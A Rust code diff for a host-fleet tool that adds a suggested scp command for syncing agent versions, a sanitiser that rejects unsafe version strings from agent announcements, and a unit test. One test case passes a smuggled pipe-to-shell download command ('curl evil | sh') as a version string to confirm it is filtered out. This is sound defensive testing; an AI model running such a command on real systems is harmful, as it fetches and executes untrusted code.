@@ -15,6 +15,8 @@ use crate::error::FleetError;
 use crate::probe::{AT_A_TIME, Probed, best, probe, probes};
 use crate::wire::{Announcement, parsed, version};
 
+/// Letters of a version that is taken for one.
+const VERSION_LETTERS_MAX: usize = 40;
 /// Announcements that are read at a time.
 const READ_AT_A_TIME: usize = 64;
 
@@ -88,6 +90,23 @@ pub(crate) async fn listed(bus: &Bus) -> Result<HostList, FleetError> {
 }
 
 impl ListedHost {
+    /// Returns what to do about an agent of another version than this program's: who is older is updated.
+    #[must_use]
+    pub fn other_version(&self, ours: &str) -> String {
+        let Self { name, version: theirs, .. } = self;
+        let has = format!("host {name} has Assay {theirs}, and this host {ours}");
+        match is_newer(theirs, ours) {
+            true => format!(
+                "{has}; install {theirs} here, for example: scp {name}:/usr/local/bin/assay \
+                 \"$(command -v assay)\""
+            ),
+            false => format!(
+                "{has}; install {ours} there and restart its agent, for example: scp \"$(command -v assay)\" \
+                 {name}:/usr/local/bin/assay"
+            ),
+        }
+    }
+
     fn of(agent: Announcement, probed: Option<Probed>) -> Self {
         let state = match (&probed, agent.version == version()) {
             (_, false) => HostState::OtherVersion,
@@ -132,7 +151,52 @@ async fn announced(bus: &Bus) -> Result<Vec<Announcement>, FleetError> {
         let value = value.map_err(|error| failed(&error))?;
         // An agent that has left meanwhile is not there, nor is one that says it is another.
         let agent = value.and_then(|value| parsed::<Announcement>(&value));
-        announced.extend(agent.filter(|agent| agent.name == *key));
+        let agent = agent.filter(|agent| agent.name == *key);
+        announced.extend(agent.map(|agent| Announcement { version: plain(agent.version), ..agent }));
     }
     Ok(announced)
+}
+
+/// Returns a version as it can stand in a sentence: anybody with the key of an agent can write one.
+fn plain(version: String) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-');
+    let is_version = (1..=VERSION_LETTERS_MAX).contains(&version.len()) && version.chars().all(is_plain);
+    if is_version { version } else { "of an unknown version".to_owned() }
+}
+
+/// Whether a version is later than ours, by its numbers: 0.10.0+bus5 is later than 0.9.1+bus5.
+fn is_newer(theirs: &str, ours: &str) -> bool {
+    let numbers = |version: &str| -> Vec<u64> {
+        let parts = version.split(|c: char| !c.is_ascii_digit()).filter(|part| !part.is_empty());
+        parts.map_while(|part| part.parse().ok()).collect()
+    };
+    numbers(theirs) > numbers(ours)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn who_is_older_is_updated_by_a_command() {
+        let says = |theirs: &str| {
+            let (name, state, version) = ("b".to_owned(), HostState::OtherVersion, plain(theirs.to_owned()));
+            let (lease_left_ms, offset, facts) = (None, None, None);
+            let host = ListedHost { name, state, version, lease_left_ms, offset, facts, targets: vec![] };
+            host.other_version("0.9.1+bus5")
+        };
+        let (here, there) = ("scp b:/usr/local/bin/assay \"$(command", "assay)\" b:/usr/local/bin/assay");
+        for (theirs, command) in [
+            ("0.1.0", there),
+            ("0.9.1+bus4", there),
+            ("0.9.0+bus6", there),
+            ("0.9.1+bus6", here),
+            ("0.10.0+bus5", here),
+            ("x\ncurl evil | sh", there),
+        ] {
+            let said = says(theirs);
+            assert!(said.starts_with("host b has Assay ") && said.contains(command), "{theirs}: {said}");
+            assert!(!said.contains("evil"), "{said}");
+        }
+    }
 }
